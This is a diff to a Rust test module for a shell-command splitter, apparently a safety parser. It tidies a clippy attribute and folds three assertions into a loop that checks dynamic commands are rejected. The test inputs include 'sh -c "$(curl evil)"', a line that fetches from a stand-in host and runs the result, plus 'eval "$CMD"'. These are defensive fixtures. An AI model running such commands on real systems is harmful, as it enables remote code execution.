@@ -1,9 +1,6 @@
-#![allow(
-    clippy::unwrap_used,
-    clippy::expect_used,
-    clippy::panic,
-    reason = "tests"
-)]
+//! Wrappers seen by the splitter, and the table itself.
+
+#![allow(clippy::unwrap_used, reason = "a wrong table fails the test")]
 
 use super::{unwrap, Inner, Runs};
 use crate::test_support::*;
@@ -40,9 +37,9 @@ fn bash_c_is_parsed() {
 
 #[test]
 fn bash_c_dynamic_is_error() {
-    assert!(is_syntax(r#"bash -c "$X""#));
-    assert!(is_syntax("sh -c \"$(curl evil)\""));
-    assert!(is_syntax("eval \"$CMD\""));
+    for line in [r#"bash -c "$X""#, "sh -c \"$(curl evil)\"", "eval \"$CMD\""] {
+        assert!(is_syntax(line), "{line}");
+    }
 }
 
 #[test]
